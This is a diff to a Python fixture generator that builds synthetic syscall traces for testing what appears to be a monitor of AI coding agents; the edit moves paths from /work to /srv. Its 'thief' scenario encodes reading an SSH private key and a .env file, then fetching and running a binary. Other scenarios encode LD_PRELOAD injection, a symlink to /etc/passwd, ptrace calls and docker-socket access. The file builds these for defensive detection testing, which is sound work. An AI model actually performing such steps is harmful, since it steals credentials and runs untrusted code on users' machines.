@@ -74,7 +74,7 @@ def fork(who, child):
     return act(who, FORK, value=(100 + child, 1000 * child, 100 + child))
 
 
-def run(who, exe, *args, cwd="/work", env=(), script=None, flags=0):
+def run(who, exe, *args, cwd="/srv", env=(), script=None, flags=0):
     words = b"".join(arg.encode() + b"\0" for arg in args)
     variables = b"".join(one.encode() + b"\0" for one in env)
     out = step(WORDS, who, WRITE | 2, words) + (step(WORDS, who, READ | 2, variables) if variables else b"")
@@ -160,28 +160,28 @@ def agent():
     command = "echo hi > a.sh; chmod +x a.sh; ./a.sh"
     begin = process(0, 7, "/usr/bin/claude") + run(0, "/usr/bin/claude", "claude", "-p", "Make a.sh") + asks(0) + connect(0, [198, 51, 100, 7], 443)
     tool = fork(0, 1) + run(1, "/usr/bin/bash", "bash", "-c", command, env=["LD_PRELOAD=/tmp/x.so", "TOKEN=1"])
-    tool += writes(1, "/work/a.sh") + act(1, CHMOD, walked("/work/a.sh"), value=(0o755,), file=hash_of("/work/a.sh"))
+    tool += writes(1, "/srv/a.sh") + act(1, CHMOD, walked("/srv/a.sh"), value=(0o755,), file=hash_of("/srv/a.sh"))
     tool += fork(1, 2) + run(2, "/usr/bin/bash", "/bin/sh", "./a.sh", script="./a.sh") + stream(STDIO, 2, WRITE, "hi\n", fd=1) + ended(2) + ended(1)
     return begin + call(0, talk.CHAT_ASK, tool_call(command)) + tool + call(0, told_result("hi\n"), talk.CHAT) + step(CLOSE, 0, 0) + ended(0)
 
 
 def thief():
     """A secret is read, and a new host is spoken to; something is fetched and run."""
-    out = process(1, 0, "/usr/bin/bash") + reads(1, "/root/.ssh/id_rsa") + reads(1, "/work/.env") + asks(1) + connect(1, [198, 51, 100, 7], 443)
-    out += fork(1, 2) + run(2, "/usr/bin/curl", "curl", "-o", "x", "http://example.org/x") + writes(2, "/work/x") + ended(2)
-    out += fork(1, 3) + run(3, "/work/x", "./x", flags=WAS_WRITTEN) + stream(STDIO, 3, READ, b"key \x01", fd=0) + ended(3, 9)
+    out = process(1, 0, "/usr/bin/bash") + reads(1, "/root/.ssh/id_rsa") + reads(1, "/srv/.env") + asks(1) + connect(1, [198, 51, 100, 7], 443)
+    out += fork(1, 2) + run(2, "/usr/bin/curl", "curl", "-o", "x", "http://example.org/x") + writes(2, "/srv/x") + ended(2)
+    out += fork(1, 3) + run(3, "/srv/x", "./x", flags=WAS_WRITTEN) + stream(STDIO, 3, READ, b"key \x01", fd=0) + ended(3, 9)
     return out + act(1, FLOW, value=(0, 5, 10, 3), result=4, fd=1) + step(TICK, 0, 0, later=255)
 
 
 def others():
     """Everything else that there is."""
     out = process(4, 1, "/usr/bin/node")
-    out += act(4, RENAME, plain("a"), walked("/work"), plain("/work/b"), value=(1,)) + act(4, LINK, plain("b"), walked("/work"), plain("c"), walked("/work"))
-    out += act(4, SYMLINK, plain("l"), walked("/work"), plain("/etc/passwd")) + act(4, MKDIR, plain("d"), walked("/work"), value=(0o755,))
-    out += act(4, RMDIR, plain("d"), walked("/work")) + act(4, UNLINK, plain("b"), walked("/work"), result=-2) + act(4, UNLINK, plain("e"), value=(0x200,))
-    out += act(4, MKNOD, plain("/work/n"), value=(0o10644, 5)) + act(4, CHOWN, walked("/work/n"), value=(0, 2**32 - 1)) + act(4, TRUNCATE, walked("/work/n"), value=(3,), fd=3)
-    out += act(4, MMAP, walked("/work/n"), value=(4096, 0), file=9, fd=3) + act(4, MEMFD, plain("code"), fd=6) + act(4, BLIND, value=(1,)) + act(4, SET_ID, value=(1000, 0))
-    out += act(4, SIGNAL, value=(101, 9)) + act(4, PTRACE, value=(16, 101)) + act(4, PTRACE, value=(2**64 - 1, 102)) + act(4, EXEC_FAILED, plain("nothing"), walked("/work"), result=-2)
+    out += act(4, RENAME, plain("a"), walked("/srv"), plain("/srv/b"), value=(1,)) + act(4, LINK, plain("b"), walked("/srv"), plain("c"), walked("/srv"))
+    out += act(4, SYMLINK, plain("l"), walked("/srv"), plain("/etc/passwd")) + act(4, MKDIR, plain("d"), walked("/srv"), value=(0o755,))
+    out += act(4, RMDIR, plain("d"), walked("/srv")) + act(4, UNLINK, plain("b"), walked("/srv"), result=-2) + act(4, UNLINK, plain("e"), value=(0x200,))
+    out += act(4, MKNOD, plain("/srv/n"), value=(0o10644, 5)) + act(4, CHOWN, walked("/srv/n"), value=(0, 2**32 - 1)) + act(4, TRUNCATE, walked("/srv/n"), value=(3,), fd=3)
+    out += act(4, MMAP, walked("/srv/n"), value=(4096, 0), file=9, fd=3) + act(4, MEMFD, plain("code"), fd=6) + act(4, BLIND, value=(1,)) + act(4, SET_ID, value=(1000, 0))
+    out += act(4, SIGNAL, value=(101, 9)) + act(4, PTRACE, value=(16, 101)) + act(4, PTRACE, value=(2**64 - 1, 102)) + act(4, EXEC_FAILED, plain("nothing"), walked("/srv"), result=-2)
     out += connect(4, [0, 0, 0, 0], 8080, BIND) + act(4, LISTEN, value=(1 | 6 << 32 | 2 << 48, 78)) + connect(4, [10, 0, 0, 9], 5000, ACCEPT)
     out += connect(4, [10, 0, 0, 9], 53, SEND_TO, (2 | 17 << 32 | 2 << 48, 79)) + connect(4, [10, 0, 0, 9], 5000, CONNECTED) + connect(4, [10, 0, 0, 9], 5000, FLOW)
     out += act(4, CONNECT, (PLAIN, b"\x01\x00/run/docker.sock\0"), value=(1 | 1 << 48, 80)) + act(4, OPEN, (3, b"gone\0"), value=(2, 3), file=5, fd=9)
@@ -193,7 +193,7 @@ def server():
     out = process(0, 7, "/usr/bin/claude") + fork(0, 5) + run(5, "/usr/bin/node", "node", "server.js")
     for n, message in enumerate(talk.MCP):
         out += stream(STDIO, 5, READ if n % 2 == 0 else WRITE, json.dumps(message) + "\n", fd=n % 2)
-    return out + call(0, talk.CHAT_ASK, tool_call("read")) + writes(5, "/work/made") + ended(5)
+    return out + call(0, talk.CHAT_ASK, tool_call("read")) + writes(5, "/srv/made") + ended(5)
 
 
 RUNS = {"agent": agent(), "thief": thief(), "others": others(), "server": server()}
